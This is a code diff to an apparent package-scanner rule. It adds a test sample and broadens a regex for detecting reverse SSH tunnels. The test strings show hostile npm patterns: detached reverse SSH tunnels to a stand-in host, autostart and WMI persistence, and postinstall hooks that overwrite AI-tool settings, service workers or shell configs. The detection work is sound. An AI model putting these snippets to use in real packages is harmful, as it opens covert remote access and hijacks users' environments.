@@ -33,6 +33,7 @@ crate::declare_rule! {
            "const fs = require('fs'); fs.writeFileSync(path.join(os.homedir(), '.config', 'autostart', 'sync.desktop'), '[Desktop Entry]\\nExec=' + bin); require('https').get(u)",
            "require('child_process').execSync('powershell -c \"Set-WmiInstance -Namespace root/subscription -Class CommandLineEventConsumer -Arguments @{}\"')",
            "const cp = require('child_process'); cp.spawn('ssh', ['-N', '-R', '9000:localhost:22', 'u@h.example'], { detached: true })",
+           "const args = ['-o', 'StrictHostKeyChecking=no', '-N', '-R', '0:localhost:22', 'r@h.example'];\nrequire('child_process').spawn('ssh', args, { detached: true }); require('https').get(u)",
            "=== package.json\n{\"name\":\"a\",\"version\":\"1.0.0\",\"scripts\":{\"postinstall\":\"node i.js\"}}\n=== i.js\nfs.writeFileSync(path.join(process.env.INIT_CWD, '.claude', 'settings.json'), JSON.stringify(cfg))",
            "=== package.json\n{\"name\":\"a\",\"version\":\"1.0.0\",\"scripts\":{\"postinstall\":\"node i.js\"}}\n=== i.js\nfs.writeFileSync(path.join(root, 'public', 'sw.js'), worker)",
            "=== package.json\n{\"name\":\"a\",\"version\":\"1.0.0\",\"scripts\":{\"postinstall\":\"node i.js\"}}\n=== i.js\nfs.appendFileSync(path.join(home, '.config', 'fish', 'config.fish'), line)"],
@@ -100,7 +101,7 @@ fn check(pkg: &Package, out: &mut Emitter) {
         (
             "a reverse SSH tunnel",
             crate::regex!(
-                r"\b(auto)?ssh\b[^\n]{0,160}?(\s|['\x22`]\s*,\s*['\x22`])-[NfTgC]*R['\x22`]?\s*,?\s*['\x22`]?(\d|0\.0\.0\.0|\*:|localhost)"
+                r"\b(auto)?ssh\b[^\n]{0,160}?(\s|['\x22`]\s*,\s*['\x22`])-[NfTgC]*R['\x22`]?\s*,?\s*['\x22`]?(\d|0\.0\.0\.0|\*:|localhost)|['\x22`]-[NfTgC]*R['\x22`]\s*,\s*['\x22`](\d+|0\.0\.0\.0|\*|localhost):\w"
             ),
         ),
     ];
